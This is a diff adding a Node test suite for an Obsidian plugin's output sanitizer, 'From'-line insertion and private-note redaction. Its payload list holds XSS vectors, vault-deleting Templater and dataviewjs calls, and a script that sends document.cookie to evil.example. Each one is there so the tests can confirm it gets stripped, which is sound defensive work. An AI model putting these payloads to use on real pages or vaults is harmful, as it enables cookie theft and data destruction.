@@ -1,32 +1,229 @@
-function ensureSourceContextFromLine(text, originLink) {
+// Injection tests for output sanitization, the Source Context "From" line and its quote matching, and context redaction.
+// Run with: node test_from_injection.js
+//
+// main.js is loaded as-is. The `obsidian` module only exists inside the app, so it is
+// replaced by empty classes; the tested methods don't touch the Obsidian API.
+const assert = require('assert');
+const Module = require('module');
+
+const obsidianShim = new Proxy({}, {
+  get: (target, key) => target[key] || (target[key] = class {}),
+});
+const originalLoad = Module._load;
+Module._load = function (request, ...rest) {
+  if (request === 'obsidian') return obsidianShim;
+  return originalLoad.call(this, request, ...rest);
+};
+const ContextualWikiDefinitions = require('./main.js');
+Module._load = originalLoad;
+
+async function createPlugin(settings = {}) {
+  const plugin = Object.create(ContextualWikiDefinitions.prototype);
+  plugin.loadData = async () => settings;
+  await plugin.loadSettings();
+  return plugin;
+}
+
+const results = { passed: 0, failed: 0 };
+async function check(name, fn) {
   try {
-    if (!text) return text;
-    const lines = text.split('\n');
-    const headerIndex = lines.findIndex((l) => l.trim().toLowerCase() === '## source context (from the note)'.toLowerCase());
-    if (headerIndex === -1) {
-      return `${text.trim()}\n\n## Source Context (From the Note)\n- From: ${originLink}\n`;
-    }
-    const insertionIndex = headerIndex + 1;
-    const alreadyHasFrom = lines.slice(insertionIndex, insertionIndex + 3).some((l) => /^-\s*From\s*:/i.test(l.trim()));
-    if (!alreadyHasFrom) {
-      lines.splice(insertionIndex, 0, `- From: ${originLink}`);
-    }
-    return lines.join('\n');
-  } catch (_) {
-    return text;
+    await fn();
+    results.passed++;
+    console.log(`ok   ${name}`);
+  } catch (e) {
+    results.failed++;
+    console.log(`FAIL ${name}\n     ${e.message.split('\n').join('\n     ')}`);
   }
 }
 
-function buildPrompt(term, context, originLink) {
-  return `## Term - The term being defined: [[${term}]]\n## Source Context (From the Note)\n> Quote or paraphrase...\n\nOriginating note context:\n${context}`;
-}
+// Payloads that must not survive sanitization with the default settings.
+// `gone` must not appear in the output; `kind` must be in the removal report.
+const PAYLOADS = [
+  { name: 'backtick dataviewjs fence', text: 'Before\n```dataviewjs\ndv.paragraph(app.vault.getName())\n```\nAfter', gone: 'dv.paragraph', kind: 'code' },
+  { name: 'tilde fence', text: 'Before\n~~~dataviewjs\nawait app.vault.adapter.remove("x")\n~~~\nAfter', gone: 'adapter.remove', kind: 'code' },
+  { name: 'four-backtick fence with inner three-backtick line', text: '````dataviewjs\n```\ndv.el("b", "x")\n````\nAfter', gone: 'dv.el', kind: 'code' },
+  { name: 'unclosed fence runs to the end', text: 'Before\n```dataviewjs\ndv.paragraph("leak")\n\n## Key Points\n- still code', gone: 'dv.paragraph', kind: 'code' },
+  { name: 'fence closed by a shorter marker stays open', text: '````dataviewjs\ndv.span(1)\n```\nstill code', gone: 'dv.span', kind: 'code' },
+  { name: 'indented fence in a list item', text: '- item\n    ```dataviewjs\n    dv.list([1])\n    ```', gone: 'dv.list', kind: 'code' },
+  { name: 'fence inside a callout', text: '> [!note]\n> ```dataviewjs\n> dv.header(1, "x")\n> ```', gone: 'dv.header', kind: 'code' },
+  { name: 'link on the line that leaves a callout fence', text: '> [!note]\n> ```\n> x\n[click](javascript:alert(1))', gone: 'alert', kind: 'link' },
+  { name: 'dataview query fence', text: '```dataview\nTABLE file.name FROM ""\n```', gone: 'TABLE file.name', kind: 'code' },
+  { name: 'script tag', text: 'Text <script>alert(1)</script> more', gone: 'alert(1)', kind: 'html' },
+  { name: 'multi-line script tag', text: '<script>\nfetch("https://evil.example/?" + document.cookie)\n</script>', gone: 'document.cookie', kind: 'html' },
+  { name: 'unclosed script tag', text: 'Text <script>alert(1)\n\nmore', gone: 'alert(1)', kind: 'html' },
+  { name: 'upper-case script tag', text: '<SCRIPT>alert(1)</SCRIPT>', gone: 'alert(1)', kind: 'html' },
+  { name: 'img onerror', text: '<img src=x onerror="alert(1)">', gone: 'onerror', kind: 'html' },
+  { name: 'img onerror right after a quoted value', text: '<img src="x"onerror="alert(1)">', gone: 'onerror', kind: 'html' },
+  { name: 'img onerror with slash separators', text: '<img/src=x/onerror=alert(1)>', gone: 'onerror', kind: 'html' },
+  { name: 'onclick right after a quoted value on an allowed tag', text: '<span title="a"onclick=alert(1)>x</span>', gone: 'onclick', kind: 'attribute' },
+  { name: 'onclick after a slash on an allowed tag', text: '<span/onclick=alert(1)>x</span>', gone: 'onclick', kind: 'attribute' },
+  { name: 'tag with an unbalanced quote', text: '<img src="x onerror=alert(1)>', gone: '<img', kind: 'html' },
+  { name: 'unclosed tag', text: 'Text <img src=x onerror=alert(1)', gone: '<img', kind: 'html' },
+  { name: 'onerror on an allowed tag', text: '<span onmouseover=alert(1)>hover</span>', gone: 'onmouseover', kind: 'attribute' },
+  { name: 'iframe', text: '<iframe src="https://evil.example"></iframe>', gone: 'iframe', kind: 'html' },
+  { name: 'svg onload', text: '<svg onload=alert(1)><circle r="1"/></svg>', gone: 'onload', kind: 'html' },
+  { name: 'style element', text: '<style>body { display: none }</style>', gone: 'display: none', kind: 'html' },
+  { name: 'javascript: link', text: '[click](javascript:alert(1))', gone: 'javascript', kind: 'link' },
+  { name: 'javascript: link with mixed case and padding', text: '[click](  JaVaScRiPt:alert(1)  )', gone: 'alert', kind: 'link' },
+  { name: 'entity-encoded javascript: link', text: '[click](&#106;avascript&#58;alert(1))', gone: 'alert', kind: 'link' },
+  { name: 'javascript: link with a title', text: '[click](javascript:alert(1) "title")', gone: 'alert', kind: 'link' },
+  { name: 'data: image', text: '![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', gone: 'data:', kind: 'link' },
+  { name: 'javascript: autolink', text: 'See <javascript:alert(1)>', gone: 'alert', kind: 'link' },
+  { name: 'javascript: reference definition', text: '[click][x]\n\n[x]: javascript:alert(1)', gone: 'alert', kind: 'link' },
+  { name: 'tab-split javascript: href on an allowed tag', text: '<span class="a" href="java&#x09;script:alert(1)">x</span>', gone: 'alert', kind: 'attribute' },
+  { name: 'javascript: href on an allowed tag', text: '<span class="a" href="javascript:alert(1)">x</span>', gone: 'javascript', kind: 'attribute' },
+  { name: 'anchor tag with javascript: href', text: '<a href="javascript:alert(1)">x</a>', gone: 'javascript', kind: 'html' },
+  { name: 'dataview inline query', text: 'Count: `= length(this.file.inlinks)`', gone: 'this.file.inlinks', kind: 'query' },
+  { name: 'dataviewjs inline query', text: 'Name: `$= dv.current().file.name`', gone: 'dv.current', kind: 'query' },
+  { name: 'dataviewjs inline query in a double-backtick span', text: 'Name: `` $= app.vault.getName() ``', gone: 'getName', kind: 'query' },
+  { name: 'Templater command', text: 'Date: <% tp.date.now() %>', gone: 'tp.date', kind: 'templater' },
+  { name: 'Templater execution command', text: '<%* await app.vault.delete(tp.file.find_tfile("x")) %>', gone: 'vault.delete', kind: 'templater' },
+  { name: 'multi-line Templater command inside a code block', text: '```text\n<%*\ntR = await tp.system.prompt("x")\n%>\n```', gone: 'tp.system', kind: 'templater' },
+  { name: 'javascript: URL in frontmatter', text: '---\ntags: [a]\nsource: javascript:alert(1)\n---\nBody', gone: 'alert', kind: 'link' },
+  { name: 'javascript: URL in a frontmatter list', text: '---\naliases:\n  - "Term"\n  - "javascript:alert(1)"\n---\nBody', gone: 'alert', kind: 'link' },
+  { name: 'markdown link in frontmatter', text: '---\nsense: "[x](javascript:alert(1))"\n---\nBody', gone: 'alert', kind: 'link' },
+  { name: 'HTML in frontmatter', text: '---\nsense: "<img src=x onerror=alert(1)>"\n---\nBody', gone: 'onerror', kind: 'html' },
+  { name: 'Templater command in frontmatter', text: '---\ntags: [a]\ncreated: <% tp.date.now() %>\n---\nBody', gone: 'tp.date', kind: 'templater' },
+];
+
+// Content that must survive sanitization unchanged.
+const SAFE = [
+  { name: 'plain definition', text: '## One-Sentence Definition\nA **kernel** is the core of an *operating system*.' },
+  { name: 'wiki links and embeds', text: 'See [[Process]], [[Thread|threads]] and ![[Diagram.png]].' },
+  { name: 'http and obsidian links', text: '[Docs](https://example.com/a_(b)) and [note](obsidian://open?vault=x) and [rel](Other%20note.md)' },
+  { name: 'inline code', text: 'Call `fork()` or `` a`b `` here.' },
+  { name: 'allowed HTML tags', text: 'H<sub>2</sub>O and <mark>this</mark> and <span class="x">y</span><br>' },
+  { name: 'HTML inside inline code is literal', text: 'Write `<script>` tags with care.' },
+  { name: 'frontmatter', text: '---\ntags: [a, b]\nconfidence: high\n---\n# Body' },
+  { name: 'frontmatter with links and times', text: '---\naliases: ["Term", "[[Other]]"]\nurl: https://example.com/a\ntime: 10:30\nsense: "operating systems: kernels"\n---\n# Body' },
+  { name: 'comparison operators', text: 'If a < b and b > c, then 3 < 5.' },
+  { name: 'HTML comment', text: 'Text <!-- note --> more' },
+];
+
+(async () => {
+  const plugin = await createPlugin();
+
+  for (const payload of PAYLOADS) {
+    await check(`removes ${payload.name}`, () => {
+      const report = [];
+      const out = plugin._sanitizeOutput(payload.text, report);
+      assert.ok(!out.toLowerCase().includes(payload.gone.toLowerCase()), `output still contains "${payload.gone}":\n${out}`);
+      assert.ok(report.some((r) => r.kind === payload.kind), `report has no "${payload.kind}" entry: ${JSON.stringify(report)}`);
+    });
+  }
+
+  for (const sample of SAFE) {
+    await check(`keeps ${sample.name}`, () => {
+      const report = [];
+      assert.strictEqual(plugin._sanitizeOutput(sample.text, report), sample.text);
+      assert.deepStrictEqual(report, []);
+    });
+  }
+
+  await check('keeps the text around a removed fence', () => {
+    const out = plugin._sanitizeOutput('Before\n```dataviewjs\ndv.span(1)\n```\nAfter');
+    assert.ok(out.includes('Before') && out.includes('After'), out);
+  });
+
+  await check('keeps link text of a removed link', () => {
+    assert.strictEqual(plugin._sanitizeOutput('[click here](javascript:void(0))'), 'click here');
+  });
+
+  await check('keeps the inner text of a removed tag', () => {
+    assert.strictEqual(plugin._sanitizeOutput('<font color="red">warning</font>'), 'warning');
+  });
+
+  await check('keeps allowed attributes next to a removed handler', () => {
+    assert.strictEqual(plugin._sanitizeOutput('<span title="a"onclick=alert(1)>x</span>'), '<span title="a">x</span>');
+  });
+
+  await check('strips disallowed attributes from allowed tags', () => {
+    assert.strictEqual(plugin._sanitizeOutput('<span style="x" class="k">y</span>'), '<span class="k">y</span>');
+  });
+
+  await check('the line that leaves a callout fence is sanitized as text', async () => {
+    const allowing = await createPlugin({ allowCodeBlocks: true });
+    const out = allowing._sanitizeOutput('> ```python\n> print(1)\n<script>alert(1)</script>\nAfter');
+    assert.ok(out.startsWith('> ```python\n> print(1)\n'), out);
+    assert.ok(!out.includes('alert') && out.includes('After'), out);
+  });
+
+  await check('a one-word quote is not verified by a substring match', () => {
+    const text = 'The kernel schedules every process on the available cores.';
+    const candidates = [{ text, norm: plugin._normalizeQuote(text) }];
+    assert.ok(plugin._bestQuoteMatch('"kernel"', candidates).score < 0.8);
+    assert.strictEqual(plugin._bestQuoteMatch('"schedules every process on"', candidates).score, 1);
+  });
+
+  await check('allowed code languages are kept when code blocks are allowed', async () => {
+    const allowing = await createPlugin({ allowCodeBlocks: true });
+    const text = '```python\nprint(1)\n```\n\n```\nplain\n```';
+    assert.strictEqual(allowing._sanitizeOutput(text), text);
+    assert.ok(!allowing._sanitizeOutput('```dataviewjs\ndv.span(1)\n```').includes('dv.span'));
+    assert.ok(!allowing._sanitizeOutput('`$= dv.span(1)`').includes('dv.span'));
+  });
+
+  await check('dataview must be allowlisted explicitly', async () => {
+    const allowing = await createPlugin({ allowCodeBlocks: true, allowedCodeLanguages: 'dataview' });
+    const text = '```dataview\nLIST\n```\nCount: `= 1 + 1`';
+    assert.strictEqual(allowing._sanitizeOutput(text), text);
+  });
+
+  await check('raw HTML keeps tags but still checks link schemes', async () => {
+    const raw = await createPlugin({ allowRawHTML: true });
+    assert.strictEqual(raw._sanitizeOutput('<font>x</font>'), '<font>x</font>');
+    assert.ok(!raw._sanitizeOutput('[x](javascript:alert(1))').includes('javascript'));
+  });
+
+  await check('custom URL scheme allowlist', async () => {
+    const zotero = await createPlugin({ allowedUrlSchemes: 'https, zotero' });
+    assert.strictEqual(zotero._sanitizeOutput('[paper](zotero://select/items/1)'), '[paper](zotero://select/items/1)');
+    assert.strictEqual(zotero._sanitizeOutput('[mail](mailto:a@b.c)'), 'mail');
+  });
+
+  await check('caps the output length', async () => {
+    const capped = await createPlugin({ maxOutputLength: 100 });
+    const out = capped._sanitizeOutput('x'.repeat(500));
+    assert.ok(out.startsWith('x'.repeat(100)) && out.includes('Output truncated'), out);
+  });
+
+  await check('summarizes the report', () => {
+    const report = [];
+    plugin._sanitizeOutput('```dataviewjs\na\n```\n~~~tasks\nb\n~~~\n<script>c</script>\n<% d %>', report);
+    assert.strictEqual(plugin._sanitizeSummary(report), '1 Templater command, 2 code blocks (dataviewjs, tasks), 1 HTML tag (<script>)');
+  });
+
+  // The "From" line must be present after sanitization, whatever the model returned
+  await check('adds the From line when Source Context is missing', () => {
+    const out = plugin._ensureSourceContextFromLine(plugin._sanitizeOutput('## Term\nText'), '[[Origin Note]]');
+    assert.ok(/\n- From: \[\[Origin Note\]\]/.test(out), out);
+  });
+
+  await check('adds the From line under an existing Source Context heading', () => {
+    const text = '## Source Context (From the Note)\n> Quote\n```dataviewjs\ndv.span(1)\n```';
+    const out = plugin._ensureSourceContextFromLine(plugin._sanitizeOutput(text), '[[Origin Note]]');
+    assert.ok(/## Source Context \(From the Note\)\n- From: \[\[Origin Note\]\]/.test(out), out);
+    assert.ok(!out.includes('dv.span'), out);
+  });
+
+  // Private regions are redacted before the context is cut into passages
+  const privateNote = [
+    '# Notes', 'Intro about the system.', '',
+    '%%private%%', 'Secret one.', '', 'The Kernel holds SECRET-TOKEN-XYZ.', '', 'Secret three.', '%%/private%%', '',
+    'Public paragraph on the Kernel.',
+  ].join('\n');
 
-// Simulate outputs that might be missing the From line
-const origin = '[[Origin Note]]';
-const base = buildPrompt('Sample', 'Context lines here', origin);
-const injected = ensureSourceContextFromLine(base, origin);
-console.log('--- injected ---');
-console.log(injected);
-console.log('Has From line:', /\n- From: \[\[/.test(injected));
+  await check('multi-paragraph private region with the term in the middle paragraph', () => {
+    const out = plugin._promptContext(null, privateNote, 'Kernel', undefined, plugin._newRedaction());
+    for (const secret of ['SECRET-TOKEN-XYZ', 'Secret one', 'Secret three']) assert.ok(!out.includes(secret), out);
+    assert.ok(out.includes('Public paragraph on the Kernel.') && out.includes('[PRIVATE_1]'), out);
+  });
 
+  await check('private region cut by the context budget', () => {
+    const out = plugin._promptContext(null, privateNote, 'Kernel', 70, plugin._newRedaction());
+    assert.ok(!/secret/i.test(out), out);
+  });
 
+  console.log(`\n${results.passed} passed, ${results.failed} failed`);
+  process.exitCode = results.failed > 0 ? 1 : 0;
+})();